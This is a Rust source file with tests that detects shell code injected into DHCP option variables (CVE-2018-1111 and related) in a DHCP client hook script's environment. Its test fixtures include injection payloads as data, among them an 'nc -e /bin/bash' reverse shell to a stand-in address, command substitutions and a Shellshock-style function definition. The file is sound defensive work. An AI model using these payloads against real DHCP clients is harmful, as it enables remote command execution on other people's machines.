//! Shell code in what a DHCP server said (CVE-2018-1111 and its kin): in the environment of the hook scripts
//! that a DHCP client runs, before any command follows from it.

/// How the variables begin that carry options of the answer: dhclient-script(8), dhcpcd-run-hooks(8),
/// NetworkManager-dispatcher(8).
const OPTIONS: [&[u8]; 9] = [
    b"DHCP4_",
    b"DHCP6_",
    b"DHCP_",
    b"new_",
    b"old_",
    b"requested_",
    b"alias_",
    b"cur_",
    b"nd1_",
];
/// What a shell that evaluates the value would act upon; no address, name or number has any of it.
const CODE: [&[u8]; 10] = [
    b"'", b"`", b"$(", b"${", b";", b"&", b"|", b"\n", b"() {", b"<(",
];
/// Most variables told, and bytes of each.
const VARIABLES: usize = 8;
const BYTES: usize = 256;

/// Options of a DHCP answer that contain shell code, as NAME=value; from a NUL-separated environment.
#[must_use]
pub fn injected(environment: &[u8]) -> Vec<Vec<u8>> {
    let variables = environment.split(|b| *b == 0);
    let bad = variables.filter(|variable| is_option(variable) && has_code(variable));
    let cut = |variable: &[u8]| variable[..variable.len().min(BYTES)].to_vec();
    bad.take(VARIABLES).map(cut).collect()
}

fn is_option(variable: &[u8]) -> bool {
    OPTIONS.iter().any(|start| variable.starts_with(start))
}

fn has_code(variable: &[u8]) -> bool {
    let at = variable.iter().position(|b| *b == b'=');
    let value = at.map_or(&b""[..], |at| &variable[at + 1..]);
    let has = |code: &&[u8]| value.windows(code.len()).any(|part| part == *code);
    CODE.iter().any(has)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn options_that_are_code_and_others() {
        for (environment, expect) in [
            ("DHCP4_WPAD=x'&nc -e /bin/bash 203.0.113.9 1337 #", true),
            ("PATH=/bin\0new_domain_name=a`id`\0", true),
            ("new_host_name=() { :;}; id", true),
            ("DHCP6_NAME=a\nb", true),
            ("new_routers=$(id)", true),
            (
                "DHCP4_DOMAIN_NAME=example.org\0DHCP4_IP_ADDRESS=192.0.2.1",
                false,
            ),
            ("new_domain_search=a.example. b.example.\0new_x=", false),
            // Not what a server said.
            ("PS1='$(id)'\0LS_COLORS=a;b\0renewed=a;b", false),
            ("DHCP4_NOTHING", false),
            ("", false),
        ] {
            assert_eq!(
                !injected(environment.as_bytes()).is_empty(),
                expect,
                "{environment:?}"
            );
        }
    }

    #[test]
    fn what_is_told_is_bounded() {
        let many = "new_x=;aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\0".repeat(100);
        assert_eq!(injected(many.as_bytes()).len(), VARIABLES);
        let long = format!("new_x=;{}", "a".repeat(10_000));
        assert_eq!(injected(long.as_bytes())[0].len(), BYTES);
    }
}
